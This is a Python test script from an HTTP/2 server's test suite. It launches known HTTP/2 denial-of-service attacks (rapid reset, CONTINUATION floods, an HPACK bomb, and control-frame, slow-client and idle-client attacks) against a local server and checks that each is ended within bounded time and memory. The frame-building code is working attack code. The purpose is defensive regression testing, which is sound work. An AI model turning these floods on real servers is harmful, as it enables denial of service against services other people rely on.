#!/usr/bin/python3
# SPDX-License-Identifier: MIT
"""The known HTTP/2 attacks (rapid reset, CONTINUATION and control-frame
floods, HPACK bomb, too many streams, slow and idle clients, an unfinished
preface) against the real beneath binary.

    h2_attacks.py BENEATH_BIN

beneath listens on https://127.0.0.1:0 with --tls-self-signed (ALPN h2),
--header-timeout 2 and --timeout 3. Each attack is sent by Python's h2
(python3-h2: H2Connection makes the well-formed frames, its hyperframe and
hpack the hostile ones) over a TLS connection that chose h2, and must end
in a GOAWAY or a close within a bounded time (the HPACK bomb: a 431 for
its stream, in bounded memory). Midway through each, while the attack's
connection is open, a fresh client (curl --http2) must get a page in
h2 within PROBE_S seconds; after each, the server's descriptors must come
back to their count at the start. Last, two of each flood at once on
their own connections while fresh clients keep asking.

    h2_attacks.py --url https://127.0.0.1:PORT [--pid PID]

runs the same attacks against a server already running (nginx, for the
comparison in docs/http2.md), reporting what ends each without judging.
Descriptors and memory are read from the process that serves: the child of
the one started (beneath's keeper serves through its child; nginx's master,
one worker) or, without a child, that process.
The path /big.bin must be there (1 MiB or more) and / must answer.

Exit 0: all ended bounded; 1: one did not; 77: a tool is missing.
"""
import importlib
import os
import select
import socket
import ssl
import subprocess
import sys
import tempfile
import threading
import time

from h2_common import (curl_missing, h2_client, serving_pid, start_beneath,
                       stop_beneath, tls_h2)

try:
    importlib.import_module("h2.connection")  # h2_common.h2_client's
    import hpack
    from hyperframe.frame import (ContinuationFrame, DataFrame, Frame,
                                  GoAwayFrame, HeadersFrame, PingFrame,
                                  RstStreamFrame, SettingsFrame)
except ImportError as e:
    print(f"skip: python3-h2 missing ({e})")
    sys.exit(77)

HEADER_TIMEOUT = 2  # --header-timeout
TIMEOUT = 3  # --timeout
SLACK = 3  # s past a server timeout before it counts as not bounded
FLOOD_S = 5  # s a flood may take to be ended
PROBE_S = 3  # s the fresh client may take
FILES_PER_CONN = 8  # H2_FILES_PER_CONN (server/transport/h2/h2.h)
RSS_GROWTH = 64 << 20  # bytes the server may grow by during one attack

ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR",
          3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
          7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
          11: "ENHANCE_YOUR_CALM"}
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Peer:
    """One TLS connection that chose h2: frames out (an H2Connection for
    the well-formed ones, raw bytes for the rest), frames in (parsed with
    hyperframe; the server's SETTINGS acknowledged)."""

    def __init__(self, port, window=None, preface=True):
        raw = socket.create_connection(("127.0.0.1", port), timeout=5)
        self.s = tls_h2(raw)
        self.s.setblocking(False)
        self.t0 = time.monotonic()
        self.port = port
        self.buf = b""
        self.closed = False
        self.reset = False  # closed by a TCP RST
        self.goaway = None  # its error code
        self.rst = {}  # stream -> error code
        self.status = {}  # stream -> :status
        self.data = 0  # DATA bytes received
        self.decoder = hpack.Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.conn = h2_client(window)
        self.next_id = 1
        self.prefaced = preface  # its SETTINGS may be acknowledged
        self.settings = False  # the server's SETTINGS came
        if preface:
            self.conn.initiate_connection()
            self.flush()

    def elapsed(self):
        return time.monotonic() - self.t0

    def flush(self):
        return self.send(self.conn.data_to_send())

    def send(self, data):
        """Everything of @data, reading meanwhile; False once closed."""
        view = memoryview(data)
        limit = time.monotonic() + 10
        while view and not self.closed:
            try:
                n = self.s.send(view[:16384])
                view = view[n:]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError,
                    BlockingIOError):
                self.pump(0.05)
                if time.monotonic() > limit:
                    raise RuntimeError("the server reads nothing for 10 s")
            except (OSError, ssl.SSLError):
                self.closed = True
        return not self.closed

    def pump(self, wait):
        """Read and parse what comes within @wait s."""
        end = time.monotonic() + wait
        while not self.closed:
            left = end - time.monotonic()
            if self.s.pending() == 0:
                r, _, _ = select.select([self.s], [], [], max(left, 0))
                if not r:
                    return
            try:
                chunk = self.s.recv(65536)
            except (ssl.SSLWantReadError, BlockingIOError):
                if left <= 0:
                    return
                continue
            except ConnectionResetError:
                self.closed = self.reset = True
                return
            except (OSError, ssl.SSLError):
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.buf += chunk
            self.parse()

    def parse(self):
        while len(self.buf) >= 9:
            f, length = Frame.parse_frame_header(memoryview(self.buf[:9]))
            if len(self.buf) < 9 + length:
                return
            f.parse_body(memoryview(self.buf[9:9 + length]))
            self.buf = self.buf[9 + length:]
            if isinstance(f, GoAwayFrame):
                if self.goaway is None:
                    self.goaway = f.error_code
            elif isinstance(f, RstStreamFrame):
                self.rst[f.stream_id] = f.error_code
            elif isinstance(f, HeadersFrame):
                for name, value in self.decoder.decode(f.data, raw=True):
                    if name == b":status":
                        self.status[f.stream_id] = int(value)
            elif isinstance(f, DataFrame):
                self.data += len(f.data)
            elif isinstance(f, SettingsFrame) and "ACK" not in f.flags:
                self.settings = True
                if self.prefaced:
                    self.send(SettingsFrame(0, flags=["ACK"]).serialize())

    def wait_end(self, limit):
        """Read until a GOAWAY or a close, for @limit s at most."""
        end = time.monotonic() + limit
        while not self.closed and self.goaway is None:
            left = end - time.monotonic()
            if left <= 0:
                return False
            self.pump(min(left, 0.2))
        return True

    def wait_close(self, limit):
        end = time.monotonic() + limit
        while not self.closed and time.monotonic() < end:
            self.pump(0.2)
        return self.closed

    def how(self):
        parts = [self.ended_by] if hasattr(self, "ended_by") else []
        if self.goaway is not None:
            parts.append("GOAWAY " + ERRORS.get(self.goaway, str(self.goaway)))
        if self.closed:
            parts.append("reset" if self.reset else "close")
        return ", ".join(parts) or "nothing"

    def stream(self):
        sid = self.next_id
        self.next_id += 2
        return sid

    def request(self, path, end_stream=True):
        """A GET by the H2Connection; its stream id."""
        sid = self.stream()
        self.conn.send_headers(sid, [(":method", "GET"), (":scheme", "https"),
                                     (":authority", f"127.0.0.1:{self.port}"),
                                     (":path", path)],
                               end_stream=end_stream)
        return sid

    def head_block(self, path):
        return self.conn.encoder.encode(
            [(":method", "GET"), (":scheme", "https"),
             (":authority", f"127.0.0.1:{self.port}"), (":path", path)])

    def close(self):
        try:
            self.s.close()
        except OSError:
            pass


class Target:
    def __init__(self, port, pid, judge):
        self.port = port
        self.started = pid  # the process started (beneath's keeper)
        self.judge = judge
        self.failures = []
        self.probe_s = PROBE_S  # the fresh client's bound now
        self.attack_probes = True  # the attacks probe midway

    @property
    def pid(self):
        """What fds and RSS are read from: the serving process, asked
        each time (a reload may start a new one)."""
        return serving_pid(self.started) if self.started else 0

    def fds(self):
        if not self.pid:
            return 0
        return len(os.listdir(f"/proc/{self.pid}/fd"))

    def fds_settled(self, want=None, limit=5.0):
        end = time.monotonic() + limit
        n = self.fds()
        while time.monotonic() < end:
            time.sleep(0.1)
            m = self.fds()
            if m == n and (want is None or m == want):
                return m
            n = m
        return n

    def rss(self):
        if not self.pid:
            return 0
        with open(f"/proc/{self.pid}/status") as f:
            for line in f:
                if line.startswith("VmRSS:"):
                    return int(line.split()[1]) * 1024
        return 0

    def probe(self, name, main=False):
        """A fresh client, now: curl --http2 must get / in h2 quickly.
        None when the attacks' own probes are off (all_at_once)."""
        if not main and not self.attack_probes:
            return None
        t = time.monotonic()
        run = subprocess.run(
            ["curl", "-sSk", "--http2", "--max-time", str(2 * self.probe_s),
             "-o", "/dev/null", "-w", "%{http_version} %{http_code}",
             f"https://127.0.0.1:{self.port}/"],
            capture_output=True, text=True)
        out = run.stdout
        took = time.monotonic() - t
        if out != "2 200" or took > self.probe_s:
            self.fail(f"{name}: a fresh curl --http2 during it got "
                      f"'{out}' in {took:.2f} s {run.stderr.strip()}")
        return took

    def fail(self, msg):
        if self.judge:
            print(f"FAIL: {msg}", flush=True)
            self.failures.append(msg)
        else:
            print(f"note: {msg}", flush=True)


# ---- the attacks: each returns (peer, bound in s, what must have ended it)


def preface_never_finished(t):
    """TLS done, h2 chosen, half a client preface and then nothing."""
    p = Peer(t.port, preface=False)
    p.send(PREFACE[:16])
    probe = t.probe("preface")
    return p, HEADER_TIMEOUT + SLACK, probe


def nothing_after_tls(t):
    """TLS done, h2 chosen, not a byte more."""
    p = Peer(t.port, preface=False)
    probe = t.probe("silent")
    return p, HEADER_TIMEOUT + SLACK, probe


def idle(t):
    """The preface, then nothing but a PING every 0.5 s."""
    p = Peer(t.port)
    probe = t.probe("idle")
    while p.elapsed() < TIMEOUT + SLACK and p.goaway is None and not p.closed:
        p.conn.ping(b"idleidle")
        p.flush()
        p.pump(0.5)
    return p, TIMEOUT + SLACK, probe


def idle_settings(t):
    """The preface, then nothing but an empty SETTINGS every 0.5 s (one a
    second kept the connection open for ever before the fix)."""
    p = Peer(t.port)
    probe = t.probe("idle, SETTINGS")
    while p.elapsed() < TIMEOUT + SLACK and p.goaway is None and not p.closed:
        p.send(SettingsFrame(0).serialize())
        p.pump(0.5)
    return p, TIMEOUT + SLACK, probe


def zero_window(t):
    """SETTINGS_INITIAL_WINDOW_SIZE 0, a GET of a big file, no
    WINDOW_UPDATE ever; a PING every 0.5 s (answered PINGs are no
    progress)."""
    p = Peer(t.port, window=0)
    sid = p.request("/big.bin")
    p.flush()
    p.pump(0.5)
    probe = t.probe("zero window")
    while p.elapsed() < TIMEOUT + SLACK and p.goaway is None and not p.closed:
        p.conn.ping(b"slowread")
        p.flush()
        p.pump(0.5)
    if p.status.get(sid) != 200 or p.data:
        t.fail(f"zero window: status {p.status.get(sid)}, {p.data} bytes of "
               "DATA through a zero window")
    return p, TIMEOUT + SLACK, probe


def too_many_streams(t, acked=True):
    """150 GETs of a big file at once, window 0: none can finish; 100 are
    taken, of which FILES_PER_CONN are answered (each holds the file open)
    and the rest wait for one of them to end."""
    p = Peer(t.port, window=0)
    if acked:
        # the server's SETTINGS (MAX_CONCURRENT_STREAMS), acknowledged
        end = time.monotonic() + 5
        while not p.settings and not p.closed and time.monotonic() < end:
            p.pump(0.1)
    else:
        p.prefaced = False  # and the streams go before reading them
    out = b""
    for _ in range(150):
        out += HeadersFrame(p.stream(), data=p.head_block("/big.bin"),
                            flags=["END_HEADERS", "END_STREAM"]).serialize()
    p.send(out)
    p.pump(0.5)
    probe = t.probe("streams")
    p.wait_end(TIMEOUT + SLACK)
    answered = sum(1 for s in p.status.values() if s == 200)
    refused = sum(1 for e in p.rst.values() if e == 7)
    print(f"  too many streams ({'' if acked else 'un'}acked limit): "
          f"{answered} answered, {refused} refused, {p.how()}", flush=True)
    if acked and answered:
        t.fail(f"streams, acked limit: {answered} answered, want none: the "
               "connection ends at the 101st")
    if not acked and (answered, refused) != (FILES_PER_CONN, 50):
        t.fail(f"streams, unacked limit: {answered} answered and {refused} "
               f"refused, want {FILES_PER_CONN} (the file streams a "
               "connection may hold; the other 92 wait) and 50")
    return p, TIMEOUT + SLACK, probe


def too_many_streams_unacked(t):
    """The same, sent before the server's SETTINGS were read."""
    return too_many_streams(t, acked=False)


def rapid_reset(t):
    """CVE-2023-44487: HEADERS then RST_STREAM CANCEL, 5000 times."""
    p = Peer(t.port)
    probe = None
    for i in range(50):
        for _ in range(100):
            sid = p.request("/", end_stream=True)
            p.conn.reset_stream(sid, error_code=8)
        if not p.flush():
            break
        p.pump(0)
        if i == 1:  # 200 pairs: within the burst, the connection is open
            probe = t.probe("rapid reset")
        if p.goaway is not None:
            break
    return p, FLOOD_S, probe


def continuation_flood(t):
    """CVE-2024-27316 class: HEADERS without END_HEADERS, then
    CONTINUATION frames without end, each a few bytes of one long value."""
    p = Peer(t.port)
    sid = p.stream()
    # a literal field, not indexed: name "x-flood", value 60000 bytes long
    # (an HPACK integer, 7-bit prefix), of which each frame carries 10
    start = p.head_block("/") + b"\x00\x07x-flood\x7f" + bytes(
        [((60000 - 127) & 0x7f) | 0x80, ((60000 - 127) >> 7) & 0x7f |
         0x80, (60000 - 127) >> 14])
    p.send(HeadersFrame(sid, data=start).serialize())
    for _ in range(4):
        p.send(ContinuationFrame(sid, data=b"a" * 10).serialize())
    probe = t.probe("continuation")
    for i in range(5000):
        if not p.send(ContinuationFrame(sid, data=b"a" * 10).serialize()):
            break
        if i % 100 == 0:
            p.pump(0)
            if p.goaway is not None:
                break
    return p, FLOOD_S, probe


def continuation_flood_empty(t):
    """The same with CONTINUATION frames that carry nothing: no size limit
    sees them, only a count can."""
    p = Peer(t.port)
    sid = p.stream()
    p.send(HeadersFrame(sid, data=p.head_block("/")).serialize())
    for _ in range(4):
        p.send(ContinuationFrame(sid, data=b"").serialize())
    probe = t.probe("empty continuation")
    empty = ContinuationFrame(sid, data=b"").serialize() * 100
    for i in range(100):
        if not p.send(empty):
            break
        p.pump(0)
        if p.goaway is not None:
            break
    return p, FLOOD_S, probe


def hpack_bomb(t):
    """A 4000-byte field put in the HPACK table, then referred to by a
    byte each, 124,000 times over a HEADERS and 7 CONTINUATIONs: 500 MB
    of fields decoded from 124 KiB."""
    p = Peer(t.port)
    rss0 = t.rss()
    sid = p.stream()
    value = b"a" * 4000
    lit = b"\x40\x06x-bomb\x7f" + bytes([(4000 - 127) & 0x7f | 0x80,
                                         (4000 - 127) >> 7])
    block = p.head_block("/") + lit + value
    p.send(HeadersFrame(sid, data=block + b"\xbe" * 12000).serialize())
    probe = t.probe("hpack bomb")
    for i in range(7):
        flags = ["END_HEADERS"] if i == 6 else []
        if not p.send(ContinuationFrame(sid, data=b"\xbe" * 16000,
                                        flags=flags).serialize()):
            break
    end = time.monotonic() + FLOOD_S
    while (sid not in p.status and sid not in p.rst and p.goaway is None
           and not p.closed and time.monotonic() < end):
        p.pump(0.2)
    grown = t.rss() - rss0
    print(f"  hpack bomb: status {p.status.get(sid)}, rst "
          f"{p.rst.get(sid)}, {p.how()}, server grew {grown >> 10} KiB",
          flush=True)
    if grown > RSS_GROWTH:
        t.fail(f"hpack bomb: the server grew by {grown >> 20} MiB")
    if p.status.get(sid) == 431:
        p.stream_ended = True
        p.ended_by = "431 on its stream"
    else:
        t.fail(f"hpack bomb: status {p.status.get(sid)}, want 431")
    return p, FLOOD_S, probe


def control_flood(t, name, frame):
    probe = None
    p = Peer(t.port, window=0 if name == "empty DATA" else None)
    if name == "empty DATA":
        sid = p.request("/big.bin", end_stream=False)
        p.flush()
        frame = DataFrame(sid, data=b"").serialize()
    for i in range(200):
        if not p.send(frame * 50):
            break
        p.pump(0.1 if i == 0 else 0.001)
        if i == 0 and not p.closed:  # 50 frames: well within the limits
            probe = t.probe(name)
        if p.goaway is not None:
            break
    return p, FLOOD_S, probe


def settings_flood(t):
    """10000 SETTINGS frames (empty), 50 a write, their ACKs read."""
    return control_flood(t, "SETTINGS", SettingsFrame(0).serialize())


def ping_flood(t):
    """10000 PINGs, 50 a write, their ACKs read."""
    return control_flood(t, "PING", PingFrame(0, opaque_data=b"flooding")
                         .serialize())


def ping_flood_unread(t):
    """PINGs for 2 s, none of their ACKs read: the server may not queue
    them without end."""
    p = Peer(t.port)
    probe = t.probe("PING, unread")
    frames = PingFrame(0, opaque_data=b"notread!").serialize() * 500
    end = time.monotonic() + 2
    while time.monotonic() < end:
        try:
            p.s.send(frames)
        except (ssl.SSLWantWriteError, BlockingIOError):
            time.sleep(0.01)
        except (OSError, ssl.SSLError):
            p.closed = True
            break
    return p, FLOOD_S, probe


def empty_data_flood(t):
    """10000 empty DATA frames on an open stream (window 0 keeps it so)."""
    return control_flood(t, "empty DATA", b"")


# What ends each: the GOAWAY codes it may bring (None: a close without
# one), and how soon it may come at the earliest (a timeout must not end a
# connection early either). Floods may also end by a close alone: what
# nghttp2 reads at once past its limits (more than 100 ACKs owed, 8
# CONTINUATIONs) drops the connection before a GOAWAY can be written.
CALM = 11
EXPECT = {
    "preface_never_finished": ({None}, HEADER_TIMEOUT - 0.5),
    "nothing_after_tls": ({None}, HEADER_TIMEOUT - 0.5),
    "idle": ({0}, TIMEOUT - 0.5),
    "idle_settings": ({0}, TIMEOUT - 0.5),
    "zero_window": ({0}, TIMEOUT - 0.5),
    "too_many_streams": ({1}, 0),
    "too_many_streams_unacked": ({0}, TIMEOUT - 0.5),
    "rapid_reset": ({CALM}, 0),
    "continuation_flood": ({None, 1}, 0),
    "continuation_flood_empty": ({None, 1}, 0),
    "hpack_bomb": ({None}, 0),
    "settings_flood": ({CALM, None}, 0),
    "ping_flood": ({CALM, None}, 0),
    "ping_flood_unread": ({None}, 0),
    "empty_data_flood": ({CALM, None}, 0),
}

ATTACKS = [preface_never_finished, nothing_after_tls, idle, idle_settings,
           zero_window, too_many_streams, too_many_streams_unacked,
           rapid_reset, continuation_flood, continuation_flood_empty,
           hpack_bomb, settings_flood, ping_flood, ping_flood_unread,
           empty_data_flood]


def all_at_once(t, fds0):
    """Two of each flood at once, each on its own connection and thread,
    while fresh clients keep asking: each must end as alone, and every
    fresh client be served."""
    floods = [rapid_reset, continuation_flood, continuation_flood_empty,
              hpack_bomb, settings_flood, ping_flood, ping_flood_unread,
              empty_data_flood] * 2
    ends = []

    def one(attack):
        try:
            p, bound, _ = attack(t)
        except Exception as e:
            ends.append((attack.__name__, False, f"{type(e).__name__}: {e}"))
            return
        ended = getattr(p, "stream_ended", False) or p.wait_end(bound)
        # a close alone too: the server closes with the flood's frames
        # unread, the kernel sends RST, and a GOAWAY not yet read by this
        # loaded client is lost with it (seen for rapid reset under load)
        ends.append((attack.__name__, ended and (
            p.goaway in EXPECT[attack.__name__][0] or
            (p.closed and p.goaway is None)), p.how()))
        p.close()

    threads = [threading.Thread(target=one, args=(a,)) for a in floods]
    # the attacks' own probes are off: one waiting for its probe sends
    # nothing meanwhile, and a slow probe would let the server's
    # timeouts end the attack instead of its limits
    t.attack_probes = False
    # 16 floods at once on a machine shared with a build (under ASan):
    # the fresh client's bound is doubled
    t.probe_s = 2 * PROBE_S
    t0 = time.monotonic()
    for th in threads:
        th.start()
    probes = []
    while any(th.is_alive() for th in threads):
        probes.append(t.probe("all at once", main=True))
        time.sleep(0.05)
    for th in threads:
        th.join()
    t.probe_s, t.attack_probes = PROBE_S, True
    took = time.monotonic() - t0
    bad = [f"{n}: {how}" for n, ok, how in ends if not ok]
    fds = t.fds_settled(fds0)
    line = (f"all_at_once: {len(ends)} floods ended in {took:.2f} s; "
            f"{len(probes)} fresh clients served meanwhile, the slowest in "
            f"{max(probes, default=0):.2f} s; fds {fds} (start {fds0})")
    if bad:
        t.fail(f"{line}: " + "; ".join(bad))
    elif t.pid and t.judge and fds != fds0:
        t.fail(f"{line}: descriptors not back")
    else:
        print(f"ok: {line}", flush=True)


def run(t):
    fds0 = t.fds_settled()
    for attack in ATTACKS:
        name = attack.__name__
        t0 = time.monotonic()
        try:
            p, bound, probe = attack(t)
        except Exception as e:  # the attack could not even be sent
            t.fail(f"{name}: {type(e).__name__}: {e}")
            continue
        ended = getattr(p, "stream_ended", False) or p.wait_end(
            bound - (time.monotonic() - t0))
        took = time.monotonic() - t0
        # after a GOAWAY the server closes: wait for it, bounded too
        closed = p.wait_close(SLACK) if ended and not getattr(
            p, "stream_ended", False) else p.closed
        p.close()
        fds = t.fds_settled(fds0)
        probe_s = f"{probe:.2f} s" if probe is not None else "not run"
        line = (f"{name}: {p.how()} after {took:.2f} s (bound {bound} s); "
                f"fresh client served in {probe_s}; fds {fds} (start {fds0})")
        codes, earliest = EXPECT[name]
        if not ended:
            t.fail(f"{line}: not ended within {bound} s")
        elif p.goaway not in codes:
            t.fail(f"{line}: want GOAWAY " + " or ".join(
                ERRORS[c] if c is not None else "none" for c in codes))
        elif took < earliest:
            t.fail(f"{line}: ended before {earliest} s")
        elif not closed and not getattr(p, "stream_ended", False):
            t.fail(f"{line}: GOAWAY but no close within {SLACK} s")
        elif t.pid and t.judge and fds != fds0:
            t.fail(f"{line}: descriptors not back")
        else:
            print(f"ok: {line}", flush=True)
    all_at_once(t, fds0)
    return 1 if t.failures else 0


def serve_www(binary, tmp):
    www = os.path.join(tmp, "www")
    os.mkdir(www)
    with open(os.path.join(www, "index.html"), "w") as f:
        f.write("<!DOCTYPE html><title>h2</title><p>hello</p>\n")
    with open(os.path.join(www, "big.bin"), "wb") as f:
        f.write(os.urandom(4 << 20))
    proc, err, urls = start_beneath(
        [binary, "--listen", "https://127.0.0.1:0", "--tls-self-signed",
         "--state-dir", os.path.join(tmp, "state"),
         "--header-timeout", str(HEADER_TIMEOUT), "--timeout", str(TIMEOUT),
         "--access-log", "off", www], tmp, 1)
    return proc, err, int(urls["https"].rsplit(":", 1)[1].strip("/"))


def main():
    missing = curl_missing()
    if missing:
        print(f"skip: {missing}")
        return 77
    if sys.argv[1] == "--url":
        port = int(sys.argv[2].rsplit(":", 1)[1].strip("/"))
        pid = int(sys.argv[4]) if len(sys.argv) > 4 else 0
        return run(Target(port, pid, judge=False)) and 0
    with tempfile.TemporaryDirectory(prefix="beneath-h2-attacks-") as tmp:
        proc, err, port = serve_www(sys.argv[1], tmp)
        try:
            if serving_pid(proc.pid) == proc.pid:
                print("FAIL: no serving process beside the keeper: its fds "
                      "and memory would not be watched")
                return 1
            rc = run(Target(port, proc.pid, judge=True))
            if proc.poll() is not None:
                print(f"FAIL: beneath exited ({proc.returncode})")
                rc = 1
        finally:
            text = stop_beneath(proc, err)
            if text.strip():
                print("--- server stderr\n" + text[-4000:])
        return rc


if __name__ == "__main__":
    sys.exit(main())
